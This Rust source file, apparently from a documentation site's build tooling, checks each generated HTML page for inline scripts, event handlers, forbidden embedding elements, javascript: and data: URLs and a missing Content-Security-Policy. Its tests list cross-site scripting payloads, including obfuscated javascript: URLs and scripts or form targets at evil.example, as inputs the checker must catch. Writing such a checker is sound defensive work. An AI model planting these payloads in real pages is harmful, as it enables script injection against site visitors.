//! One built page, read by html5ever's tokenizer exactly as a browser's
//! parser reads it (character references decoded, `<SCRIPT>` and
//! `<script/x>` both `script`), and every tag and attribute checked.

use std::cell::RefCell;
use std::collections::BTreeMap;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};

use super::urls::{is_active_scheme, scheme};

/// The policy's directives, written once for both constants below.
macro_rules! page_policy {
    () => {
        "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; object-src 'none'; base-uri 'none'; form-action 'self'"
    };
}

/// The Content-Security-Policy every page carries as a `<meta http-equiv>`.
pub const CONTENT_SECURITY_POLICY: &str = page_policy!();

/// The same policy as `serve` sends it in a header, where `frame-ancestors`
/// (ignored in a `<meta>`) works too.
pub const CONTENT_SECURITY_POLICY_HEADER: &str =
    concat!(page_policy!(), "; frame-ancestors 'none'");

/// The theme's own scripts, by site path: the only `<script>`s a page may have.
pub const THEME_SCRIPTS: [&str; 3] = [
    "static/search.js",
    "static/checklist.js",
    "static/glossary-preview.js",
];

/// Elements that embed, frame or re-point a page: never in the guide.
const FORBIDDEN_ELEMENTS: [&str; 11] = [
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "portal",
    "style",
    "xmp",
    "plaintext",
];

/// Attributes whose value a browser follows or loads as a URL.
const URL_ATTRIBUTES: [&str; 20] = [
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "background",
    "cite",
    "data",
    "codebase",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "usemap",
    "manifest",
    "icon",
    "ping",
    "srcset",
    "imagesrcset",
    "profile",
];

/// Something on a page the theme did not put there.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Violation {
    pub line: u64,
    /// The tag as the parser saw it, shortened: `<img onerror=...>`.
    pub element: String,
    pub problem: String,
}

/// Every violation on `html`, a page at site path `page`. `base_url` is the
/// site's address (the 404 page links absolutely from it).
pub fn check_page(html: &str, base_url: &str) -> Vec<Violation> {
    check_page_fed(html, base_url, FEED_BYTES)
}

/// [`check_page`], the tokenizer given `feed_bytes` of the page at a time.
fn check_page_fed(html: &str, base_url: &str, feed_bytes: usize) -> Vec<Violation> {
    let sink = Sink {
        base_url: base_url.to_string(),
        state: RefCell::new(State::default()),
    };
    let tokenizer = Tokenizer::new(sink, TokenizerOpts::default());
    let input = BufferQueue::default();
    // Fed in pieces, as a browser reads a page off the network, so a large
    // page (the print page: 75 MB at 10,000 sections) is never copied
    // whole into the tokenizer's buffer. The sink never pauses for a
    // script, so each feed takes all it is given (what a token needs to
    // see further is kept by the tokenizer for the next piece).
    for piece in pieces(html, feed_bytes) {
        input.push_back(StrTendril::from_slice(piece));
        let _ = tokenizer.feed(&input);
    }
    tokenizer.end();
    let state = tokenizer.sink.state.into_inner();
    let mut violations = state.violations;
    if state.csp_metas == 0 {
        violations.push(Violation {
            line: 1,
            element: "<head>".into(),
            problem: "the page has no Content-Security-Policy `<meta http-equiv>`".into(),
        });
    }
    for (id, lines) in state.ids {
        if lines.len() > 1 {
            violations.push(Violation {
                line: lines[1],
                element: format!("id=\"{id}\""),
                problem: format!("id `{id}` is used {} times on the page", lines.len()),
            });
        }
    }
    violations.sort_by_key(|v| v.line);
    violations
}

/// How much of a page the tokenizer is given at a time.
const FEED_BYTES: usize = 64 * 1024;

/// `text` in consecutive pieces of about `size` bytes, each cut at a
/// character boundary.
fn pieces(text: &str, size: usize) -> impl Iterator<Item = &str> {
    let mut rest = text;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let (piece, after) = rest.split_at(rest.ceil_char_boundary(size));
        rest = after;
        Some(piece)
    })
}

#[derive(Default)]
struct State {
    violations: Vec<Violation>,
    /// Inside a `<script>` whose text has not been found yet: its body
    /// must be empty.
    in_script: bool,
    csp_metas: usize,
    ids: BTreeMap<String, Vec<u64>>,
}

struct Sink {
    base_url: String,
    state: RefCell<State>,
}

impl TokenSink for Sink {
    type Handle = ();

    fn process_token(&self, token: Token, line: u64) -> TokenSinkResult<()> {
        let mut state = self.state.borrow_mut();
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => {
                let problems = self.check_tag(&tag, &mut state, line);
                // Shown only for a tag with a problem: nearly every tag has none.
                if !problems.is_empty() {
                    let element = shown(&tag);
                    state
                        .violations
                        .extend(problems.into_iter().map(|problem| Violation {
                            line,
                            element: element.clone(),
                            problem,
                        }));
                }
                // Switch states as the tree builder would, so text inside
                // `<title>`, `<textarea>` or `<noscript>` is read as text.
                return match &*tag.name {
                    "script" => {
                        state.in_script = true;
                        TokenSinkResult::RawData(RawKind::ScriptData)
                    }
                    "title" | "textarea" => TokenSinkResult::RawData(RawKind::Rcdata),
                    "style" | "xmp" | "iframe" | "noembed" | "noframes" | "noscript" => {
                        TokenSinkResult::RawData(RawKind::Rawtext)
                    }
                    "plaintext" => TokenSinkResult::Plaintext,
                    _ => TokenSinkResult::Continue,
                };
            }
            Token::TagToken(tag) if &*tag.name == "script" => state.in_script = false,
            // A script's text may come in several runs (the page is read in
            // pieces): it is reported once.
            Token::CharacterTokens(text) if state.in_script && !text.trim().is_empty() => {
                state.in_script = false;
                state.violations.push(Violation {
                    line,
                    element: "<script>".into(),
                    problem: "an inline script".into(),
                });
            }
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

impl Sink {
    fn check_tag(&self, tag: &Tag, state: &mut State, line: u64) -> Vec<String> {
        let name = &*tag.name;
        let attr = |n: &str| {
            tag.attrs
                .iter()
                .find(|a| &*a.name.local == n)
                .map(|a| a.value.to_string())
        };
        let mut problems = Vec::new();
        if FORBIDDEN_ELEMENTS.contains(&name) {
            problems.push(format!("a `<{name}>` element"));
        }
        match name {
            "script" => match attr("src") {
                Some(src) if THEME_SCRIPTS.contains(&self.site_path(&src).as_str()) => {
                    for a in &tag.attrs {
                        if !matches!(&*a.name.local, "src" | "defer" | "async") {
                            problems.push(format!("a theme script with `{}`", a.name.local));
                        }
                    }
                }
                Some(src) => problems.push(format!("a script `{src}` that is not the theme's")),
                None => problems.push("an inline script".into()),
            },
            "meta" => {
                if let Some(equiv) = attr("http-equiv") {
                    let content = attr("content").unwrap_or_default();
                    if equiv.eq_ignore_ascii_case("content-security-policy")
                        && content == CONTENT_SECURITY_POLICY
                    {
                        state.csp_metas += 1;
                    } else {
                        problems.push(format!("`<meta http-equiv=\"{equiv}\">`"));
                    }
                }
            }
            // A form without `action` (the checklist's) sends nowhere but
            // its own page; one with an action may only be the search form.
            "form" => {
                if let Some(action) = attr("action")
                    && self.site_path(&action) != "search.html"
                {
                    problems.push(format!(
                        "a form that sends to `{action}`, not the theme's search page"
                    ));
                }
            }
            "link" => {
                let rel = attr("rel").unwrap_or_default().to_ascii_lowercase();
                // `canonical`: an old edition's pointer to the current page; it loads nothing.
                if !matches!(rel.as_str(), "stylesheet" | "icon" | "canonical") {
                    problems.push(format!("`<link rel=\"{rel}\">`"));
                }
            }
            _ => {}
        }
        for a in &tag.attrs {
            // The tokenizer lowercases attribute names, as a browser does.
            let attr_name = &*a.name.local;
            let value = &*a.value;
            if attr_name.starts_with("on") {
                problems.push(format!("an event handler `{attr_name}`"));
            } else if attr_name == "style" {
                problems.push("a `style` attribute (the CSP refuses inline style)".into());
            } else if attr_name == "srcdoc" {
                problems.push("a `srcdoc` attribute".into());
            } else if URL_ATTRIBUTES.contains(&attr_name)
                || (name == "meta" && attr_name == "content")
            {
                let in_url = if name == "meta" {
                    value.rsplit_once("url=").map_or("", |(_, u)| u)
                } else {
                    value
                };
                let image_data = name == "img" && attr_name == "src";
                let urls: Vec<&str> = if attr_name.ends_with("srcset") {
                    value.split(',').collect()
                } else {
                    vec![in_url]
                };
                for url in urls {
                    if let Some(s) = scheme(url).filter(|s| is_active_scheme(s))
                        && !(s == "data" && image_data && is_image_data(url))
                    {
                        problems.push(format!("a `{s}:` URL in `{attr_name}`"));
                    }
                }
            } else if attr_name == "id" {
                state.ids.entry(value.to_string()).or_default().push(line);
            }
        }
        problems
    }

    /// `src`/`action` as a path from the site root: the page's relative
    /// prefix (`../`) or the site's absolute address taken off.
    fn site_path(&self, url: &str) -> String {
        let mut path = url.trim();
        path = path.strip_prefix(&self.base_url).unwrap_or(path);
        while let Some(rest) = path.strip_prefix("../").or_else(|| path.strip_prefix("./")) {
            path = rest;
        }
        path.to_string()
    }
}

fn is_image_data(url: &str) -> bool {
    let squeezed = super::urls::squeeze(url);
    [
        "data:image/png",
        "data:image/jpeg",
        "data:image/gif",
        "data:image/webp",
    ]
    .iter()
    .any(|p| squeezed.starts_with(p))
}

/// A start tag, shortened for an error message.
fn shown(tag: &Tag) -> String {
    let mut s = format!("<{}", tag.name);
    for a in &tag.attrs {
        let value: String = a.value.chars().take(40).collect();
        s.push_str(&format!(" {}=\"{}\"", a.name.local, value));
        if s.len() > 120 {
            s.push_str(" ...");
            break;
        }
    }
    s.push('>');
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    fn page(body: &str) -> String {
        format!(
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta http-equiv=\"Content-Security-Policy\" content=\"{CONTENT_SECURITY_POLICY}\"><title>x &lt;script&gt;</title></head><body>{body}<script src=\"static/search.js\" defer></script></body></html>"
        )
    }

    fn problems(body: &str) -> Vec<String> {
        check_page(&page(body), "https://example.org/guide/")
            .into_iter()
            .map(|v| v.problem)
            .collect()
    }

    #[test]
    fn the_theme_s_own_markup_passes() {
        let body = r#"<form action="../search.html" method="get"><input name="q"></form><img src="data:image/png;base64,AA" alt=""><a href="https://example.org/x">x</a><textarea><script>alert(1)</script></textarea><script src="https://example.org/guide/static/checklist.js" defer></script>"#;
        assert_eq!(problems(body), Vec::<String>::new());
    }

    #[test]
    fn script_in_any_spelling_is_found() {
        for body in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script/src=data:,alert(1)></script>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=x OnError=alert(1)>",
            "<a HREF=\"javascript:alert(1)\">x</a>",
            "<p STYLE=\"color:red\">x</p>",
            "<svg><svg onload=alert(1)>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\" &#14;  javascript:alert(1)\">x</a>",
            "<iframe src=x></iframe>",
            "<object data=x></object>",
            "<embed src=x>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<form action=https://evil.example/><button>x</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<h2 id=\"main\">a</h2><h2 id=\"main\">b</h2>",
        ] {
            assert!(!problems(body).is_empty(), "not caught: {body}");
        }
    }

    #[test]
    fn a_page_read_in_pieces_is_read_as_it_is_whole() {
        // Every kind of token cut at every place: tags, attributes,
        // character references, comments, raw text, CRLF line ends, and
        // characters of several bytes.
        let body = "<p>caf\u{e9} \u{1F600}</p>\r\n<!-- a <script> comment -->\r\n<a href=\"jav&#x09;ascript:alert(1)\" id=\"x\">\u{e9}</a>\n<textarea><script>alert(1)</script></textarea>\n<img src=x onerror=alert(1)><h2 id=\"x\">b</h2><script>alert(2)</script>";
        let html = page(body);
        let whole = check_page_fed(&html, "https://example.org/guide/", html.len());
        assert_eq!(whole.len(), 5, "{whole:?}");
        for size in [1, 2, 3, 5, 7, 64] {
            assert_eq!(
                check_page_fed(&html, "https://example.org/guide/", size),
                whole,
                "pieces of {size} bytes"
            );
        }
        let cut: Vec<&str> = pieces("a\u{e9}\u{1F600}b", 2).collect();
        assert_eq!(cut, ["a\u{e9}", "\u{1F600}", "b"]);
    }

    #[test]
    fn a_page_without_the_policy_is_refused() {
        let v = check_page("<html><body></body></html>", "https://example.org/");
        assert!(v[0].problem.contains("Content-Security-Policy"), "{v:?}");
    }
}
